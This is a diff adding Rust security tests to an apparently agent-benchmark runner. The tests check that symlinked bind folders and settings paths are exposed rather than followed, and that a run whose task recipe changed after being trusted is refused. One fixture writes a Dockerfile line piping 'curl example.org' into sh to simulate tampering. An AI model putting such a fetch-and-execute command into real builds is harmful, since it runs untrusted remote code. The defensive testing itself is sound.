@@ -119,7 +119,7 @@ fn the_folders_endpoint_and_key_are_not_used_unless_they_are_chosen() {
     std::fs::write(
         home.path("results/config.yaml"),
         "agent: CODEX\ncodex: {model_id: acme/new}\nendpoint: {base_url: 'http://127.0.0.1:9', key_env: HOME}\n\
-         docker: {env_vars: [SSH_AUTH_SOCK]}\n",
+         docker: {env_vars: [SSH_AUTH_SOCK]}\nlimits: {network: open}\n",
     )
     .expect("a file");
     let folder = home.path("results");
@@ -131,6 +131,75 @@ fn the_folders_endpoint_and_key_are_not_used_unless_they_are_chosen() {
     );
     let notes = loaded["notes"].to_string();
     assert!(notes.contains("The key is not taken") && notes.contains("SSH_AUTH_SOCK to agents"), "{notes}");
+    assert!(notes.contains("the network open"), "{notes}");
+}
+
+#[test]
+// docs/security.md: A resume
+fn a_link_of_the_folder_hides_neither_what_agents_get_nor_what_is_written() {
+    let home = TestHome::new();
+    home.run_until_budget(2, 1);
+    let private = home.path("private");
+    std::fs::create_dir(&private).expect("a folder");
+    symlink(&private, home.path("results/data")).expect("a link");
+    let private = private.canonicalize().expect("it is there").display().to_string();
+    let bind = format!("{}:/data", home.path("results/data").display());
+    let mut run = record(&home);
+    (run["settings"]["use_docker"], run["settings"]["extra"]["binds"]) = (json!(true), json!([bind]));
+    put(&home, &run);
+    let output = home.stamina(&["--json", "resume", "results"]);
+    assert_eq!(output.status.code(), Some(5), "{}", text(&output.stderr));
+    let seen: Value = serde_json::from_slice(&output.stdout).expect("JSON");
+    assert_eq!(seen["binds"], json!([format!("{bind} (it leads to {private})")]));
+    assert_eq!(seen["writes"][1], json!(private));
+
+    // A loaded file names the folder beside which its settings are saved.
+    let app = Served::new(&home);
+    let profile = home.path("profile");
+    std::fs::write(&profile, "# mine\n").expect("a file");
+    let to = home.path("results/next.yaml");
+    symlink(&profile, &to).expect("a link");
+    let settings = app.get("launch_form", &json!({}))["defaults"].clone();
+    app.get("save_settings", &json!({ "settings": settings, "path": to }));
+    assert_eq!(std::fs::read_to_string(&profile).expect("it is there"), "# mine\n");
+    assert!(std::fs::symlink_metadata(&to).is_ok_and(|meta| meta.is_file()));
+}
+
+#[test]
+// docs/security.md: A resume
+fn a_recipe_that_changes_once_it_was_shown_is_not_what_was_trusted() {
+    let home = TestHome::new();
+    home.run_until_budget(2, 1);
+    let task = |path: &str, text: &str| {
+        let path = home.path("tasks/0").join(path);
+        std::fs::create_dir_all(path.parent().expect("a folder")).expect("a folder");
+        std::fs::write(path, text).expect("a file");
+    };
+    task("task.toml", "[[steps]]\nname = \"a\"\n");
+    task("environment/Dockerfile", "FROM debian\n");
+    task("steps/a/instruction.md", "Do it.");
+    task("tests/test.sh", "true");
+    let values = [
+        "agent=NOP".to_owned(),
+        "benchmark=HARBOR".to_owned(),
+        format!("tasks={}", home.path("tasks").display()),
+        format!("output_dir={}", home.path("results").display()),
+    ];
+    let settings = runner::settings::resolve(&[], &values).expect("settings");
+    let mut run = record(&home);
+    run["settings"] = serde_json::to_value(&settings).expect("JSON");
+    put(&home, &run);
+
+    let app = Served::new(&home);
+    let shown = || app.get("run_trust", &json!({ "folder": home.path("results") }));
+    let first = shown();
+    assert_eq!(first["task_images"][0]["from"], json!(["debian"]), "{first}");
+    assert_eq!(shown()["digest"], first["digest"]);
+    task("environment/Dockerfile", "FROM debian\nRUN curl example.org | sh\n");
+    assert_ne!(shown()["digest"], first["digest"]);
+    let trust = json!({ "digest": first["digest"], "keep_key": true });
+    let asked = json!({ "folder": home.path("results"), "changes": [], "trust": trust });
+    assert_eq!(app.ask("resume_run", &asked).expect_err("refused")["code"], "run.changed");
 }
 
 #[test]
